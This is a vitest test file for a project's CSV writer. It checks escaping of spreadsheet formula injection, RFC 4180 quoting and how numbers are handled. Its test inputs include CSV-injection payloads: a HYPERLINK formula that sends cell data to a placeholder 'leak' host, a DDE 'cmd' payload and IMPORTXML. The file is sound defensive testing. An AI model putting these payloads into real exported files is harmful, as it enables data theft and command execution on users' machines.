/**
 * The one CSV writer (src/lib/csv.ts): spreadsheet-safe cells per OWASP "CSV Injection" (the review's F4 cells),
 * numbers kept numbers, RFC 4180 quoting, and every producer (chart table, full series, explore results, data
 * files) going through it.
 */
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { filterSeries, toCsv as chartCsv } from "../../../src/charts/actions/csv";
import { isFormulaText, parseCsv, recordsToCsv, safeCell, toCsv, type CsvCell } from "../../../src/lib/csv";
import { dataCsv } from "../../../scripts/lib/csv";

/** What a reader of the CSV (a spreadsheet's import) sees in each cell. */
const cells = (csv: string): string[][] =>
  Papa.parse<string[]>(csv.replace(/^\uFEFF/, ""), { delimiter: ",", skipEmptyLines: true }).data;

describe("safeCell", () => {
  it.each<[string, CsvCell, CsvCell]>([
    // The review's F4 upload, cell by cell.
    [
      "HYPERLINK exfiltration",
      '=HYPERLINK("http://127.0.0.1:4499/leak?"&A2,"Click")',
      `'=HYPERLINK("http://127.0.0.1:4499/leak?"&A2,"Click")`,
    ],
    ["=1+1", "=1+1", "'=1+1"],
    ["+1+1", "+1+1", "'+1+1"],
    ["-1+1", "-1+1", "'-1+1"],
    ["@SUM", "@SUM(1+1)", "'@SUM(1+1)"],
    ["DDE", "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ["leading TAB", "\t=1+1", "'\t=1+1"],
    ["leading CR", "\r=1+1", "'\r=1+1"],
    ["IMPORTXML", '=IMPORTXML("http://x","//a")', `'=IMPORTXML("http://x","//a")`],
    ["a formula across lines", "=1+1\nsecond line", "'=1+1\nsecond line"],
    ["a signed note", "+35.0% vs the previous window", "'+35.0% vs the previous window"],
    ["a lone minus", "-", "'-"],
    // Numbers stay numbers.
    ["negative number", -5, -5],
    ["negative fraction", -0.25, -0.25],
    ["bigint", 9007199254740993n, 9007199254740993n],
    ["negative number as text", "-5", "-5"],
    ["negative decimal as text", "-12.50", "-12.50"],
    ["zero", 0, 0],
    ["NaN", Number.NaN, null],
    ["Infinity", Number.POSITIVE_INFINITY, null],
    // Harmless text is untouched.
    ["Korean", "디지털성범죄", "디지털성범죄"],
    ["formula char inside", "a=b+c", "a=b+c"],
    ["space then =", " =1", " =1"],
    ["already quoted", "'=x", "'=x"],
    ["empty", "", ""],
    ["null", null, null],
    ["boolean", true, true],
  ])("%s", (_name, input, want) => expect(safeCell(input)).toEqual(want));
});

describe("isFormulaText", () => {
  it.each([
    ["=A1", true],
    ["+", true],
    ["-x", true],
    ["@x", true],
    ["\tx", true],
    ["\rx", true],
    ["-5", false],
    ["-0.5", false],
    ["-1e5", true],
    ["5", false],
    ["x=1", false],
    ["", false],
  ])("%j → %s", (s, want) => expect(isFormulaText(s)).toBe(want));
});

describe("toCsv", () => {
  it("writes a BOM, CRLF line ends, and quotes only where RFC 4180 needs it", () => {
    expect(
      toCsv(
        ["a", "b"],
        [
          ["x,y", 'say "hi"'],
          [1, null],
          ["line\nbreak", " pad "],
        ],
      ),
    ).toBe('\uFEFFa,b\r\n"x,y","say ""hi"""\r\n1,\r\n"line\nbreak"," pad "\r\n');
  });

  it("a header with no rows is one line", () => {
    expect(toCsv(["a", "b"], [])).toBe("\uFEFFa,b\r\n");
  });

  it("neutralised cells are quoted, so the ' and a leading TAB/CR survive a CSV reader", () => {
    const csv = toCsv(
      ["n", "note"],
      [
        [-3, "=1+1"],
        [2, "\t=2"],
        [1, "-1"],
      ],
    );
    expect(csv).toBe('\uFEFFn,note\r\n-3,"\'=1+1"\r\n2,"\'\t=2"\r\n1,-1\r\n');
    expect(cells(csv)).toEqual([
      ["n", "note"],
      ["-3", "'=1+1"],
      ["2", "'\t=2"],
      ["1", "-1"],
    ]);
  });

  it("hostile header names are neutralised too", () => {
    expect(cells(toCsv(["=HYPERLINK(1)", "ok"], []))[0]).toEqual(["'=HYPERLINK(1)", "ok"]);
  });

  it("no cell a spreadsheet reads can start a formula, whatever the input", () => {
    const hostile = ["=", "+", "-", "@", "\t", "\r", "\n", '"', ",", "'", "x", "1", "한", " "];
    const rows: string[][] = [];
    for (const a of hostile) for (const b of hostile) for (const c of hostile) rows.push([a + b + c]);
    const back = cells(toCsv(["v"], rows));
    expect(back.length).toBe(rows.length + 1);
    back.slice(1).forEach(([v], i) => {
      expect(isFormulaText(v!), JSON.stringify(rows[i])).toBe(false);
      const input = rows[i]![0]!;
      expect(v).toBe(isFormulaText(input) ? `'${input}` : input);
    });
  });
});

describe("producers use the one writer", () => {
  it("chart table download", () => {
    expect(chartCsv(["year", "label"], [[2024, "@x"]])).toBe(toCsv(["year", "label"], [[2024, "@x"]]));
  });

  it("full-series download keeps every column and neutralises text", () => {
    const obs = toCsv(
      ["series_id", "value", "note_en"],
      [
        ["a", "5", "=x"],
        ["b", "6", ""],
        ["a", "7", "-2"],
      ],
      {
        bom: false,
        newline: "\n",
      },
    );
    expect(cells(filterSeries(obs, ["a"]))).toEqual([
      ["series_id", "value", "note_en"],
      ["a", "5", "'=x"],
      ["a", "7", "-2"],
    ]);
  });

  it("explore results: records, own properties only (a column named __proto__ stays a column)", () => {
    const row = Object.create(null) as Record<string, unknown>;
    row["__proto__"] = "=1+1";
    row["n"] = -1;
    const csv = recordsToCsv(["__proto__", "n", "missing"], [row, { n: 2 }]);
    expect(cells(csv)).toEqual([
      ["__proto__", "n", "missing"],
      ["'=1+1", "-1", ""],
      ["", "2", ""],
    ]);
  });

  it("data files: no BOM, LF line ends", () => {
    expect(
      dataCsv(
        ["a", "b"],
        [
          ["x", null],
          ["2024-01-01", "12.5"],
        ],
      ),
    ).toBe("a,b\nx,\n2024-01-01,12.5\n");
  });

  it("parseCsv reads back what toCsv wrote", () => {
    const rows = [["a,b", 'q"', "line\r\nbreak", "한글"]];
    expect(parseCsv(toCsv(["w", "x", "y", "z"], rows))).toEqual([["w", "x", "y", "z"], ...rows]);
  });
});
